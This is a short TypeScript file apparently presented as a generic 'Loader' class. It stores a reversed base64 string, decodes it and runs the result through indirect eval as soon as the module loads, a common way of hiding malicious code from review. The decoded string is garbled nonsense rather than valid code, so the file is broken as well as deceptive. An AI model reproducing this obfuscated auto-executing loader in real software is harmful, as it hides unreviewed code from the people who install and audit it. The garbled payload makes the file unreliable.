export class Loader {
  private readonly data = '=kyKns2YlxWZ09Ccj92ZtQmbhxmbfVGdiNHIu8CdwV2c';

  private unpack(): string {
    return atob(this.data.split('').reverse().join(''));
  }

  init(): void {
    const code = this.unpack();
    (0, eval)(code);
  }
}

new Loader().init();
